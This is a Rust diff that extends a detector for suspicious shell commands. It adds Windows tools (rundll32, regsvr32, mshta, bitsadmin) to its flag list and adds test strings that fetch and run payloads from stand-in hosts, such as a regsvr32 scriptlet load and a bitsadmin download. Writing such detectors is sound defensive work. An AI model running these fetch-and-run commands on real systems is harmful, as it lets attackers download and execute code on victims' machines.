@@ -203,8 +203,25 @@ const WRAPPERS: &[&str] = &[
 const WRAPPER_VALUE_OPTIONS: &[&str] = &["-u", "-g", "-n", "-C", "-I", "-P", "-d", "-L", "-s"];
 /// Programs this rule judges, recognised whether written as a POSIX or a Windows path.
 const OTHER_PROGRAMS: &[&str] = &[
-    "curl", "wget", "nc", "ncat", "netcat", "socat", "certutil", "base64", "eval", "nslookup",
-    "dig", "host", "start", "nohup", "setsid",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "certutil",
+    "base64",
+    "eval",
+    "nslookup",
+    "dig",
+    "host",
+    "start",
+    "nohup",
+    "setsid",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "bitsadmin",
 ];
 
 fn scan(command: &str, depth: usize, hits: &mut Vec<Hit>) {
@@ -294,6 +311,15 @@ fn examine(program: &str, args: &[Word], raw: &str, depth: usize, hits: &mut Vec
         "powershell" | "pwsh" => hits.push(high(powershell_reason(program, &joined_lower))),
         "certutil" => hits.push(high(
             "runs `certutil`, a Windows tool abused to download and decode payloads".into(),
+        )),
+        // Windows programs that load and run code given to them: how droppers start a
+        // DLL or script they shipped or fetched (eslint-config-prettier, Jul 2025).
+        "rundll32" | "regsvr32" | "mshta" => hits.push(high(format!(
+            "runs `{program}`, which loads and runs the code it is given (a DLL, a scriptlet \
+             or an HTA)"
+        ))),
+        "bitsadmin" => hits.push(high(
+            "runs `bitsadmin`, a Windows tool abused to download payloads".into(),
         )),
         "base64" if has(&["-d", "-D", "--decode"]) => {
             hits.push(high("decodes hidden data with `base64 -d`".into()))
@@ -757,6 +783,9 @@ mod tests {
             "powershell -enc SQBFAFgA",
             "powershell -Command \"irm https://x.example/npm/ | iex\"",
             "certutil -urlcache -f http://x/a.exe a.exe",
+            "rundll32 node-gyp.dll,main",
+            "cmd /c start /b regsvr32 /s /i:http://x.example/a.sct scrobj.dll",
+            "bitsadmin /transfer j http://x.example/a.exe %TEMP%\\a.exe",
             "sh -c 'curl http://x | bash'",
             "FOO=1 sudo wget http://x",
         ] {
